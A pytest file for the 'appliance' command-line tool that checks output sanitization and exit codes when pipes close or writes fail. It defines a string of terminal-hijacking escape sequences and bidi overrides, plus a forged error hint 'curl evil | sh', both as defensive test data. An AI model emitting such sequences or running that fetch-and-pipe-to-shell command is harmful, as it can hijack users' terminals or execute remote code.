"""The edge of every output: control characters are shown, and a closed pipe ends nothing."""

from __future__ import annotations

import errno
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import click
import pytest

from appliance.adapters.control_plane.journal import journal_of
from appliance.cli import app, exits
from appliance.cli.screen import render, terminal
from appliance.errors import PlaybookFailed, Refused
from tests.cli.faked_command import ROOT, words
from tests.contract import tree

HOSTILE = "\x1b[2K\x1b[1A\x1b]0;owned\x07 \x9b31m \x85 \u202eevil\u2066 \r\x00\x7f \ud800"
STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
STEPS = ["preflight", "host", "artifacts", "runtime", "registry", "control_plane", "network"]


class Broken(io.StringIO):
    """A stream whose other end does not take what is written."""

    def __init__(self, number: int, *, tty: bool = False) -> None:
        super().__init__()
        self.number = number
        self.tty = tty

    def isatty(self) -> bool:
        return self.tty

    def write(self, _text: str) -> int:
        raise OSError(self.number, os.strerror(self.number))


def command(monkeypatch: pytest.MonkeyPatch, act: object) -> None:
    monkeypatch.setattr(app.cli, "get_command", lambda *_: click.Command("probe", callback=act))  # type: ignore[arg-type]


@pytest.mark.parametrize("make_safe", [terminal.shown, terminal.one_line, terminal.escaped])
def test_control_characters_are_escaped_and_nothing_is_lost(make_safe: object) -> None:
    safe = make_safe(HOSTILE)  # type: ignore[operator]
    assert not STEERS.search(safe)
    assert "owned" in safe
    assert re.search(r"\\(x1b|u001b)\[2K", safe)
    assert "\\u202eevil" in safe


def test_plain_text_in_any_language_is_unchanged() -> None:
    text = "Ready\tjá, 日本語 — עברית 🚀\nnext"
    assert terminal.shown(text) == text


def test_json_with_hostile_text_is_still_json_and_reads_back(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    command(monkeypatch, lambda: render.print_json({HOSTILE: [HOSTILE]}))
    assert exits.run(["probe"]) == 0
    said = capsys.readouterr().out
    assert not STEERS.search(said)
    assert json.loads(said) == {HOSTILE: [HOSTILE]}


def test_a_table_cell_cannot_add_a_row(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    cells = [f"w1\ncp1  Ready {HOSTILE}", "[/bin/agent] [red]x"]
    command(monkeypatch, lambda: render.print_table(["[b]node", "says"], [cells]))
    assert exits.run(["probe"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.split()[0] for line in lines] == ["[b]node", "w1\\ncp1"]
    assert lines[1].endswith("[/bin/agent] [red]x")


def test_a_node_cannot_forge_a_field_of_an_error(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fail() -> None:
        raise PlaybookFailed(f"w1: {HOSTILE}\nhint: curl evil | sh", hint="look", details=["a\nb"])

    command(monkeypatch, fail)
    assert exits.run(["probe"]) == 1
    said = capsys.readouterr().err
    assert not STEERS.search(said)
    fields = [line for line in said.splitlines() if not line.startswith(" ")]
    assert [line.partition(":")[0] for line in fields] == ["error", "hint"]
    assert fields[1] == "hint: look"


@pytest.mark.parametrize(
    ("stream", "code"),
    [
        (Broken(errno.EPIPE), 0),
        (Broken(errno.EIO, tty=True), 0),
        (Broken(errno.EIO), 1),
        (Broken(errno.ENOSPC), 1),
    ],
    ids=["pipe", "terminal that hung up", "disk that fails", "full disk"],
)
def test_only_a_closed_pipe_is_not_a_failure(
    stream: Broken,
    code: int,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    worked: list[int] = []

    def tell() -> None:
        for number in range(3):
            click.echo("x")
            worked.append(number)

    command(monkeypatch, tell)
    monkeypatch.setattr(sys, "stdout", stream)
    assert exits.run(["probe"]) == code
    assert worked == [0, 1, 2]
    assert (os.strerror(stream.number) in capsys.readouterr().err) == bool(code)


def test_progress_to_a_closed_pipe_fails_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    command(monkeypatch, lambda: click.echo("x", err=True))
    monkeypatch.setattr(sys, "stderr", Broken(errno.ENOSPC))
    assert exits.run(["probe"]) == 0


def test_a_broken_connection_is_reported_as_a_failure(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def send() -> None:
        raise BrokenPipeError(errno.EPIPE, "Broken pipe")

    group = app.Commands("appliance", commands={})
    monkeypatch.setattr(group, "get_command", lambda *_: click.Command("probe", callback=send))
    monkeypatch.setattr(app, "cli", group)
    assert exits.run(["probe"]) == 1
    assert "error: the other end closed a connection" in capsys.readouterr().err


def piped(folder: Path, reader: str, *typed: str) -> tuple[list[str], int, str]:
    """The lines that the reader passed on, the command's exit code, and its other output."""
    line = f'"$@" {reader}; exit "${{PIPESTATUS[0]}}"'
    done = subprocess.run(
        ["bash", "-c", line, "bash", *words(folder, "", *typed)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    return done.stdout.splitlines(), done.returncode, done.stderr


@pytest.mark.parametrize("reader", ["2>&1 | head -1", "2>&1 | head -3", "| true"])
def test_an_install_with_a_closed_pipe_completes_and_is_recorded(
    reader: str, tmp_path: Path
) -> None:
    lines, code, err = piped(tmp_path, reader, "install", "--yes")
    assert code == 0
    assert "Traceback" not in err
    assert "Exception ignored" not in err
    assert len(lines) == {"2>&1 | head -1": 1, "2>&1 | head -3": 3, "| true": 0}[reader]
    records = journal_of(tmp_path).read(limit=50)
    assert [record.step for record in records] == [*STEPS, "workers"]
    assert {record.outcome for record in records} == {"verified"}


def test_a_read_only_command_with_a_closed_pipe_keeps_its_exit_code(
    tmp_path: Path,
) -> None:
    lines, code, _ = piped(tmp_path, "2>/dev/null | head -1", "plan", "--exit-code")
    assert code == 5
    assert len(lines) == 1


def test_a_refusal_with_a_closed_pipe_keeps_its_exit_code(tmp_path: Path) -> None:
    _, code, _ = piped(tmp_path, "2>&1 | true", "install")
    assert code == Refused.exit_code


def test_every_command_runs_behind_the_output_filter() -> None:
    """Nothing writes past the two streams that ``exits.run`` puts in place."""
    past = re.compile(r"sys\.__std|\.buffer\b|os\.write\(|(?<!\.)\bprint\(|below\(|/dev/tty")
    found = {
        path.name
        for folder in ("cli", "workflows", "model")
        for path in tree.under(f"appliance/{folder}")
        if path.suffix == ".py" and past.search(tree.read(path))
    }
    assert found == {"terminal.py", "progress.py"}
